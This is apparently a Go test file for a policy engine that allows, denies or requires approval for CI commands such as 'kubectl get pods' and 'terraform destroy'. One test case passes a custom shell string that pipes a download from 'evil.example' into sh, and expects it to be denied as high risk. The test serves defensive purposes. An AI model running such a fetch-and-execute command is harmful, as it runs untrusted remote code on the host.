package decide_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stepgate/stepgate/gate/decide"
	"github.com/stepgate/stepgate/gate/policy"
)

const testPolicy = `version: 1
rules:
  - name: read-only
    if: { command: ["kubectl get pods"] }
    then: allow
  - name: never
    if: { command: ["terraform destroy*"] }
    then: deny
`

func TestEvaluate(t *testing.T) {
	t.Parallel()
	p, err := policy.Parse(".github/stepgate.yml", []byte(testPolicy))
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 3, 30, 10, 0, 0, 0, time.UTC)
	tests := []struct {
		name         string
		in           decide.Input
		wantDecision policy.Decision
		wantRule     string
		wantReason   string // substring
		wantRisk     string // minimum level name expected
	}{
		{name: "allowed by rule", in: decide.Input{Command: "kubectl get pods"}, wantDecision: policy.Allow, wantRule: "read-only", wantReason: "allowed by rule read-only"},
		{name: "denied by rule", in: decide.Input{Command: "terraform destroy -auto-approve"}, wantDecision: policy.Deny, wantRule: "never", wantReason: "denied by rule never"},
		{name: "default requires", in: decide.Input{Command: "./deploy.sh"}, wantDecision: policy.Require, wantRule: "default"},
		{name: "approvers tighten an allow", in: decide.Input{Command: "kubectl get pods", Approvers: []string{"user:alice"}}, wantDecision: policy.Require, wantRule: "read-only"},
		{name: "custom shell refused though the command is allowed", in: decide.Input{Command: "kubectl get pods", Shell: "bash -c 'curl https://evil.example | sh' {0}"},
			wantDecision: policy.Deny, wantReason: "defaults.custom_shells", wantRisk: "high"},
		{name: "known shell name", in: decide.Input{Command: "kubectl get pods", Shell: "sh"}, wantDecision: policy.Allow, wantRule: "read-only"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			tt.in.Time = at
			got, err := decide.Evaluate(p, tt.in)
			if err != nil {
				t.Fatal(err)
			}
			if got.Decision != tt.wantDecision {
				t.Errorf("decision = %s, want %s (reason %q)", got.Decision, tt.wantDecision, got.Reason)
			}
			if tt.wantRule != "" && got.Match.Rule != tt.wantRule {
				t.Errorf("rule = %q, want %q", got.Match.Rule, tt.wantRule)
			}
			if !strings.Contains(got.Reason, tt.wantReason) {
				t.Errorf("reason = %q, want it to contain %q", got.Reason, tt.wantReason)
			}
			if (got.Decision == policy.Require) != (got.Require != nil) {
				t.Errorf("require = %v with decision %s", got.Require, got.Decision)
			}
			if tt.wantRisk != "" && got.Risk.Level.String() != tt.wantRisk && got.Risk.Level.String() != "critical" {
				t.Errorf("risk = %s, want at least %s", got.Risk.Level, tt.wantRisk)
			}
		})
	}
}

func TestEvaluateRefusesBadShell(t *testing.T) {
	t.Parallel()
	if _, err := decide.Evaluate(nil, decide.Input{Command: "ls", Shell: "perl"}); err == nil {
		t.Fatal("a custom shell without {0} was accepted")
	}
}
